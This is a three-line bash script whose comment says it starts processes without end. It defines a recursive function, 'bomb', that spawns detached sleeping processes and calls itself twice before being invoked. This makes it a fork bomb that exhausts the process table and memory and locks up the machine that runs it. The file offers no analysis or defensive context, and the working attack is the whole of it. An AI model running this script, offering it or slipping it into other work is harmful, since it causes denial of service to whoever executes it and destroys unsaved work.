# starts processes without end
bomb() { setsid bash -c 'sleep infinity & wait' & bomb & bomb; }
bomb
